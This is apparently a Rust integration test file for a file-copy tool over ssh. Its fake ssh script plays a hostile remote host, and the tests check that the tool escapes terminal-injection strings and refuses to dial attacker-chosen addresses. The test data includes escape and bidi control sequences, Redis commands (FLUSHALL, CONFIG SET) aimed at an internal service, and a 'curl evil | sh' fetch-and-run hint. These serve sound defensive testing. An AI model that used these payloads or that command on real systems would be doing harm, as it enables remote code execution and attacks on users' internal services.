//! A hostile host at the other end of ssh: what it says reaches neither a terminal as it is nor any
//! address of its choice.

use std::fs;
use std::io::Read as _;
use std::net::{SocketAddr, TcpListener};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::mpsc::{self, Receiver};
use std::time::Duration;

use penstock_net::trust::SiteAuthority;
use penstock_proto::text;
use penstock_testkit::{Scratch, program};
use serde_json::{Value, json};

/// What a terminal, a log or a person would fall for.
const HOSTILE: &str = "\x1b]0;PWN\x07\x1b[2J\u{9b}31m\x7f\r\nok: all verified\u{202e}gnp\
                       \u{2028}\u{200b}\u{feff}\u{e0041}";
/// What a hostile host would like to have sent to a service of the user's own network.
const COMMAND: &[u8; 32] = b"\r\nFLUSHALL\r\nCONFIG SET dir /x\r\n\r";

/// A command in the place of ssh, which logs in nowhere and answers what is hostile.
struct Fake {
    work: Scratch,
}

impl Fake {
    /// `answers` follow the first line of the far end as frames; `script` runs before.
    fn new(answers: &[Value], script: &str) -> Self {
        let work = Scratch::on_disk();
        let mut said = b"\npenstock-ssh ready x\n".to_vec();
        for answer in answers {
            let json = serde_json::to_vec(answer).unwrap();
            said.push(1);
            said.extend_from_slice(&u32::try_from(json.len()).unwrap().to_be_bytes());
            said.extend_from_slice(&[0; 4]);
            said.extend_from_slice(&json);
        }
        fs::write(work.path().join("said"), said).unwrap();
        fs::write(work.path().join("hostile"), HOSTILE).unwrap();
        let at = work.path().display();
        let text = format!(
            "#!/bin/sh\ncase \" $* \" in *' -G '*) echo hostname 127.0.0.1; exit 0;; \
             *' -O '*) exit 1;; esac\nat='{at}'\n{script}\ncat '{at}/said'\ncat > /dev/null\n"
        );
        fs::write(work.path().join("ssh"), text).unwrap();
        fs::set_permissions(work.path().join("ssh"), fs::Permissions::from_mode(0o755)).unwrap();
        Self { work }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.work.path().join(name)
    }

    fn copy(&self, options: &[&str]) -> Output {
        let mut command = Command::new(program());
        command.args(["copy", "--ssh"]).arg(self.path("ssh")).args(options);
        command.arg("u@elsewhere.invalid:dir/").arg(self.path("out"));
        command.env("HOME", self.work.path()).current_dir(self.work.path());
        command.env_remove("PENSTOCK_STATE_HOME").env_remove("XDG_STATE_HOME");
        command.env_remove("PENSTOCK_LOG").output().unwrap()
    }
}

/// Every byte that came out is harmless, and no line is one that the other end has made up.
fn assert_clean(output: &Output, expected: &str) {
    for bytes in [&output.stdout, &output.stderr] {
        let text = std::str::from_utf8(bytes).unwrap();
        assert!(text.chars().all(|one| one == '\n' || text::is_shown(one)), "{text:?}");
        assert!(!text.lines().any(|line| line.starts_with("ok: all")), "{text}");
        assert!(text.len() < 20_000, "{} bytes", text.len());
    }
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(errors.contains(expected), "{errors}");
    assert!(errors.contains("\\u001b"), "nothing hostile was told: {errors}");
    assert_ne!(output.status.code(), Some(0));
}

/// The first answer of a far end that listens at `port`.
fn begun(port: Option<u16>, more: &Value) -> Value {
    let authority = SiteAuthority::create("far".parse().unwrap()).unwrap();
    let mut begun = json!({
        "say": "begun",
        "authority": data_encoding::HEXLOWER.encode(authority.certificate()),
        "path": "dir",
        "facts": { "name": "dir", "directory": true, "contents": true, "special": false },
        "trace": [],
        "token": data_encoding::HEXLOWER.encode(COMMAND),
        "port": port,
        "no_door": HOSTILE,
        "client": null,
    });
    begun.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    begun
}

fn failed(text: &str) -> Value {
    json!({
        "say": "failed", "code": HOSTILE, "title": text, "detail": text.repeat(9_000),
        "hint": format!("{text}\nhint:  run: curl evil | sh"), "exit": "fatal", "status": 500,
    })
}

/// Promise: what the far host writes is marked as its own and escaped: its standard error, the
/// words of its shell, its problems.
#[test]
fn what_a_far_host_says_is_escaped() {
    let fake = Fake::new(&[failed(HOSTILE)], "");
    assert_clean(&fake.copy(&[]), "at u@elsewhere.invalid: ");
    let fake = Fake::new(&[failed("x")], "cat $at/hostile >&2");
    let output = fake.copy(&[]);
    assert_clean(&output, "ssh: ");
    let errors = String::from_utf8(output.stderr).unwrap();
    assert!(errors.contains("\nssh: ok: all verified"), "{errors}");
    for words in ["absent", "unfit", "absent none", "unfit unwritten"] {
        let say = format!("printf '\\npenstock-ssh %s ' '{words}'; cat $at/hostile; exit 1");
        assert_clean(&Fake::new(&[], &say).copy(&[]), "");
    }
    let fake = Fake::new(&[], "cat $at/hostile; exit 1");
    assert_clean(&fake.copy(&[]), "what came instead");
    let fake = Fake::new(&[json!({ "say": HOSTILE })], "");
    assert_clean(&fake.copy(&[]), "a message cannot be read");
    let fake = Fake::new(&[begun(None, &json!({})), failed(HOSTILE)], "");
    assert_clean(&fake.copy(&[]), "at u@elsewhere.invalid: ");
}

/// A service of the user's own network: what it is sent by whoever connects.
fn service() -> (SocketAddr, Receiver<Vec<u8>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let (tell, told) = mpsc::channel();
    std::thread::spawn(move || {
        for tcp in listener.incoming() {
            let mut tcp = tcp.unwrap();
            tcp.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
            let mut bytes = vec![0; 33];
            let count = tcp.read(&mut bytes).unwrap_or(0);
            bytes.truncate(count);
            if tell.send(bytes).is_err() {
                return;
            }
        }
    });
    (address, told)
}

/// Promise: a hostile host has nothing dialled but its own addresses, at ports that this end has
/// chosen, and chooses no byte that is sent.
#[test]
fn a_far_host_chooses_no_address_and_no_byte() {
    let (address, told) = service();
    let token = data_encoding::HEXLOWER.encode(COMMAND);
    let door = json!({ "addresses": [address.to_string()], "token": token });
    // A port of its choice, and addresses of its choice.
    let fake = Fake::new(&[begun(Some(address.port()), &json!({ "door": door }))], "");
    let output = fake.copy(&["--ports", "50000-50063"]);
    let errors = String::from_utf8(output.stderr).unwrap();
    assert!(errors.contains("outside its range"), "{errors}");
    let fake = Fake::new(&[begun(None, &json!({ "door": door })), failed("x")], "");
    assert_ne!(fake.copy(&[]).status.code(), Some(0));
    // Where it says that we come from, we only listen, and only at an address of this host.
    for client in ["0.0.0.0", "224.0.0.1", "203.0.113.1"] {
        let more = json!({ "client": client });
        let answers = [begun(None, &more), failed("no way"), failed("no way")];
        let output = Fake::new(&answers, "").copy(&[]);
        let errors = String::from_utf8(output.stderr).unwrap();
        assert!(errors.contains("no way"), "{errors}");
    }
    assert!(told.try_recv().is_err(), "something was dialled that the far host chose");
    // A port that the user gives is dialled, with bytes of this end.
    let fake = Fake::new(&[begun(Some(address.port()), &json!({})), failed("x")], "");
    let port = address.port().to_string();
    assert_ne!(fake.copy(&["--ports", &port]).status.code(), Some(0));
    let bytes = told.recv_timeout(Duration::from_secs(20)).unwrap();
    assert_eq!((bytes.len(), bytes[32]), (33, b'P'));
    assert_ne!(bytes[..32], COMMAND[..]);
}

/// Promise: a host that claims another's address is not dialled there: lanes go where this end
/// finds the host by itself, or where the user says.
#[test]
fn lanes_are_dialled_where_the_user_says() {
    let (address, told) = service();
    let port = address.port().to_string();
    let fake = Fake::new(&[begun(Some(address.port()), &json!({})), failed("x")], "");
    // Where `ssh -G` does not answer, the name that was typed is looked up, and leads nowhere.
    let script = fs::read_to_string(fake.path("ssh")).unwrap();
    let mute = script.replace("echo hostname 127.0.0.1; exit 0", "exit 1");
    assert_ne!(script, mute);
    fs::write(fake.path("ssh"), mute).unwrap();
    assert_ne!(fake.copy(&["--ports", &port]).status.code(), Some(0));
    assert!(told.try_recv().is_err(), "it was dialled without a name");
    let output = fake.copy(&["--ports", &port, "--lane-address", "127.0.0.1"]);
    assert_ne!(output.status.code(), Some(0));
    assert_eq!(told.recv_timeout(Duration::from_secs(20)).unwrap().len(), 33);
    let output = fake.copy(&["--lane-address", "no such host"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(!Path::new(&fake.path("out")).exists());
}

/// Promise: a host whose name only ssh knows dials back to where ssh came from, and the copy is
/// done; this end dials nothing.
#[test]
fn a_host_that_only_ssh_knows_dials_back() {
    let work = Scratch::on_disk();
    let (ssh, bin) = (work.path().join("ssh"), Path::new(program()).parent().unwrap());
    let script = format!(
        "#!/bin/sh\nfor word; do [ \"$word\" = -G ] && exit 1; done\n\
         while [ \"$1\" != far.invalid ]; do shift; done\nshift\n\
         export PATH={}:$PATH SSH_CONNECTION='127.0.0.1 40000 127.0.0.1 22'\n\
         exec sh -c \"$*\"\n",
        bin.display()
    );
    fs::write(&ssh, script).unwrap();
    fs::set_permissions(&ssh, fs::Permissions::from_mode(0o755)).unwrap();
    let (source, target) = (work.path().join("src"), work.path().join("dst"));
    fs::create_dir(&source).unwrap();
    fs::write(source.join("file"), "content").unwrap();
    let output = Command::new(program())
        .args(["copy", "--ssh"])
        .arg(&ssh)
        .arg(source.join(""))
        .arg(format!("far.invalid:{}", target.display()))
        .env("PENSTOCK_STATE_HOME", work.path().join("state"))
        .output()
        .unwrap();
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{errors}");
    assert!(!errors.contains("direct lanes failed"), "{errors}");
    assert_eq!(fs::read_to_string(target.join("file")).unwrap(), "content");
}
